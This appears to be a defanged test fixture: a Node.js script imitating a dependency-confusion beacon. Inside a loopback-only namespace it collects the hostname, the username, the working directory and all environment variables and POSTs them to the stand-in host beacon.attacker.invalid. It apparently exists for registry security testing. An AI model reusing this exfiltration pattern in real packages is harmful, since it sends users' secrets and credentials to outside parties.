// Defanged fixture (tests/registry/README.md): a dependency-confusion beacon. It does nothing
// unless it runs inside a network namespace whose only interface is lo; its host is under .invalid.
const fs = require("fs");
const os = require("os");
const https = require("https");

function isolated() {
  try {
    return fs.readdirSync("/sys/class/net").join(",") === "lo";
  } catch (e) {
    return false;
  }
}

if (isolated()) {
  const data = JSON.stringify({
    host: os.hostname(),
    user: os.userInfo().username,
    cwd: process.cwd(),
    env: process.env,
  });
  const req = https.request({ hostname: "beacon.attacker.invalid", port: 443, path: "/c", method: "POST" });
  req.on("error", () => {});
  req.write(data);
  req.end();
}
